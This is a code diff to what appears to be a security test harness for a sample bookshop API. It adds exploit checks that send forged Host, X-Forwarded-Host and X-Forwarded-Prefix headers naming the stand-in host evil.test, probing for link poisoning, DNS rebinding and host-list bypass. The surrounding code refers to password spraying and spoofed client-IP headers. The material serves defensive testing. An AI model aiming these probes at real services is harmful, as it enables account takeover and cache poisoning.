@@ -14,7 +14,7 @@ import json
 import secrets
 import time
 from typing import Any
-from urllib.parse import quote
+from urllib.parse import quote, urlsplit
 
 import httpx
 
@@ -41,6 +41,7 @@ ALICE, BOB = 1, 2  # who came first has the lowest number, and nobody has to be 
 ALICES_SHELVES = [name for owner, name in accounts.SHELVES if owner == "alice"]
 WITHDRAWN, CORRECTED = "A scandal, as we now know.", "A sea voyage."  # summaries of a book
 SPOOFED_HEADERS = ("X-Forwarded-For", "X-Real-IP", "X-Client-IP", "True-Client-IP", "X-API-Key")
+HOST_OF_THE_ATTACKER = urlsplit(OTHER_SITE).netloc
 MANY = 30  # requests: more than any of the limits that are tried allows
 
 
@@ -127,6 +128,29 @@ def spray_passwords(shop: Shop) -> Outcome:
             return Stopped(f"429 after {guesses - 1} guesses from one address")
     expect(answer)
     return Loot(f"bob's session, after {MANY} guesses from one address: {cookie(attacker)}")
+
+
+@exploit("1.2", "API8", "X-Forwarded-Prefix moves the links to evil.test")
+def poison_the_links(shop: Shop) -> Outcome:
+    """The header of a proxy that serves the app under a path. A cache would show the answer to everybody."""
+    honest = expect(shop.client().get("/api/books/1")).json()["_links"]["self"]["href"]
+    answer = shop.client().get("/api/books/1", headers={"X-Forwarded-Prefix": f"//{HOST_OF_THE_ATTACKER}"})
+    link = expect(answer).json()["_links"]["self"]["href"]
+    if link != honest:
+        return Loot(f"the book says that it is at {link}")
+    return Stopped(f"the book stays at {link}")
+
+
+@exploit("1.2", "API8", "a name of evil.test leads into the shop")
+def point_a_name_at_the_shop(shop: Shop) -> Outcome:
+    """The attacker's own domain gets the shop's address (DNS rebinding): to a browser all of that is evil.test."""
+    return asked_for_another_host(shop, {"Host": HOST_OF_THE_ATTACKER})
+
+
+@exploit("1.2", "API8", "X-Forwarded-Host gets past the list of hosts")
+def hide_the_host(shop: Shop) -> Outcome:
+    """The same, where the app knows its hosts, and asks a header for the one that was meant."""
+    return asked_for_another_host(shop, {"Host": HOST_OF_THE_ATTACKER, "X-Forwarded-Host": urlsplit(ORIGIN).netloc})
 
 
 @exploit("1.2", "API8", "in Chromium, evil.test reads alice's account", in_browser=True)
@@ -392,6 +416,15 @@ def cookie(client: httpx.Client) -> str:
     if not values:
         raise Failure("a login sets no cookie")
     return values[-1]
+
+
+def asked_for_another_host(shop: Shop, headers: dict[str, str]) -> Outcome:
+    """What the shop answers when it is asked for a host that is not its own."""
+    expect(shop.client().get("/api/books/1"))
+    answer = shop.client().get("/api/books/1", headers=headers)
+    if answer.status_code == 200:
+        return Loot(f"asked for {headers['Host']}, it answers {excerpt(answer.text)}")
+    return stopped_by(answer)
 
 
 def names_of_shelves(person: httpx.Client) -> list[str]:
